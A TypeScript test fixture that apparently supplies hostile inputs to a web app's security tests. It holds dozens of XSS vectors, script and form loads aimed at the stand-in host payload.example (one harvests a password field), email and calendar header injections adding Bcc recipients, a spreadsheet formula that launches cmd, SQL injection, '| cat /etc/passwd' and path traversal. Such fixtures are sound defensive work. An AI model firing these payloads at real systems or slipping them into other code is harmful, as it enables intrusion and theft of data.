/** The target of links in the payloads; nothing may request it. */
export const ELSEWHERE = 'payload.example'

const CALL = 'alert(1)'
const MARKUP = `<img src=x onerror=${CALL}>`

const ELEMENTS = [
  `<script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script src=//${ELSEWHERE}/a.js></script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  MARKUP,
  `<IMG SRC=x OnErRoR="${CALL}">`,
  `<img/src=x/onerror=${CALL}//`,
  `<svg onload=${CALL}>`,
  `<svg/onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><style>${MARKUP}</style></svg>`,
  `<math><mtext><style>${MARKUP}</style></mtext></math>`,
  `<math><mi xlink:href="data:x,<script>${CALL}</script>">`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<object data="data:text/html,<script>${CALL}</script>">`,
  `<embed src="javascript:${CALL}">`,
  `<base href="//${ELSEWHERE}/">`,
  `<meta http-equiv=refresh content="0;url=//${ELSEWHERE}">`,
  `<link rel=stylesheet href=//${ELSEWHERE}/a.css>`,
  `<style>@import '//${ELSEWHERE}/a.css'</style>`,
  `<form action="//${ELSEWHERE}"><input name=password><button>OK`,
  `<input autofocus onfocus=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<video><source onerror=${CALL}>`,
  `<body onpageshow=${CALL}>`,
  `<marquee onstart=${CALL}>`,
  `<a href="javascript:${CALL}">click</a>`,
  `<template shadowrootmode=open>${MARKUP}</template>`,
  `<advisor-card alias=anna-gruber host=//${ELSEWHERE}></advisor-card>`,
  `<div data-advisor-widget=booking data-host=//${ELSEWHERE}>`,
  `<x style=animation-name:x onanimationstart=${CALL}>`,
  `<noscript><p title="</noscript>${MARKUP}">`,
  `<textarea><img title="</textarea>${MARKUP}">`
]

const ATTRIBUTES = [
  `"`,
  `'`,
  '`',
  `>`,
  `<`,
  `&`,
  `">${MARKUP}`,
  `'>${MARKUP}`,
  `\`>${MARKUP}`,
  `" onmouseover="${CALL}`,
  `' onmouseover='${CALL}`,
  `" autofocus onfocus=${CALL} x="`,
  `"/onfocus=${CALL}/autofocus/"`,
  `x onerror=${CALL}`,
  `"style="background:url(//${ELSEWHERE}/x)`,
  `red;background:url(//${ELSEWHERE}/x)`,
  `\\" onmouseover=${CALL} \\"`,
  `\\u0022\\u003e${MARKUP}`
]

const ENDINGS = [
  `</title>${MARKUP}`,
  `</script>${MARKUP}`,
  `</script ><script>${CALL}</script>`,
  `</SCRIPT\n>${MARKUP}`,
  `</textarea>${MARKUP}`,
  `</style>${MARKUP}`,
  `</noscript>${MARKUP}`,
  `</select>${MARKUP}`,
  `</template>${MARKUP}`,
  `</p></div></main></body></html>${MARKUP}`,
  `--><script>${CALL}</script>`,
  `<!--`,
  `<!--><script>${CALL}</script>-->`,
  `<![CDATA[${MARKUP}]]>`,
  `<?xml version="1.0"?>`,
  `"}</script>${MARKUP}`,
  `\\"};${CALL};//`,
  `<!--<script>`
]

const LINKS = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  ` javascript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `&#106;avascript:${CALL}`,
  `javascript://${ELSEWHERE}/%0a${CALL}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${CALL}>`,
  `blob:https://${ELSEWHERE}/1`,
  `file:///etc/passwd`,
  `//${ELSEWHERE}/a`,
  `\\\\${ELSEWHERE}\\a`,
  `https://${ELSEWHERE}/"onmouseover="${CALL}`,
  `https://${ELSEWHERE}/'><script>${CALL}</script>`,
  `https://bank.example@${ELSEWHERE}/`,
  `a@b.example?bcc=evil@${ELSEWHERE}&body=x`
]

const ENCODED = [
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `%253Cscript%253E${CALL}%253C/script%253E`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${CALL}&#x3e;`,
  `\\x3cscript\\x3e${CALL}`,
  `\\u003cscript\\u003e${CALL}`,
  `+ADw-script+AD4-${CALL}`,
  `\uff1cscript\uff1e${CALL}\uff1c/script\uff1e`,
  `\u2039script\u203a`,
  `<\u200bscript>${CALL}</script>`,
  `\u202e>tpircs<`,
  `\u2066${MARKUP}\u2069`,
  `\ufeff${MARKUP}`,
  `K\u0323\u0307${MARKUP}`,
  `👩‍👩‍👧‍👦${MARKUP}`,
  `a\u2028${MARKUP}\u2029`
]

const TEMPLATES = [
  '$' + '{alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '{%raw%}{{7*7}}',
  '<%= 7*7 %>',
  '#{7*7}',
  '[NAME]',
  '[TENANT][BRANCH]',
  '{name}',
  '{count, plural, one {#} other {#}}',
  "{name}'{'</b>",
  '<b>{name}</b>',
  '$& $1 $` $$ $<name>',
  '%s %d %o %c',
  '__proto__',
  'constructor',
  'null',
  'undefined',
  'true',
  '=cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd',
  "'; drop table advisors; --",
  '../../../../etc/passwd',
  '| cat /etc/passwd'
]

const LINES = [
  `Eve\r\nBcc: evil@${ELSEWHERE}`,
  `Eve\nContent-Type: text/html\n\n${MARKUP}`,
  `Eve\r\nSet-Cookie: session=evil`,
  `Eve\r\n\r\n${MARKUP}`,
  `Eve\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:Mallory`,
  `Eve;TEL:666,\\;\\,\\n\\`,
  `Eve\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nURL:https://${ELSEWHERE}`,
  `"\r\nATTACH:https://${ELSEWHERE}/x`,
  `Eve\r ATTENDEE:mailto:evil@${ELSEWHERE}`,
  `=?utf-8?q?=0d=0aBcc:_evil@${ELSEWHERE}?=`,
  `Eve" <evil@${ELSEWHERE}>, "Mallory`,
  `Eve\u0085Bcc: evil@${ELSEWHERE}`,
  `\u001b[31mEve\u0008\u0007\u000b\u000c\u007f`,
  `a\tb\t${MARKUP}`,
  MARKUP.repeat(300),
  'W'.repeat(9000),
  '\u0301'.repeat(500)
]

const WHOLE = [...ELEMENTS, ...ATTRIBUTES, ...ENDINGS, ...LINKS, ...ENCODED, ...TEMPLATES, ...LINES]

/** The same numbers every time, so that a failure can be reproduced. */
function diced(count: number, seed: number): string[] {
  let state = seed
  const part = () => {
    state = (state * 16_807) % 2_147_483_647
    return WHOLE[state % WHOLE.length]?.slice(0, 60) ?? ''
  }
  return Array.from({ length: count }, () => part() + part() + part())
}

/** The worst texts and links: each as an attacker would try it, then mixtures of them. */
export const PAYLOADS: readonly string[] = [...WHOLE, ...diced(24, 4)]
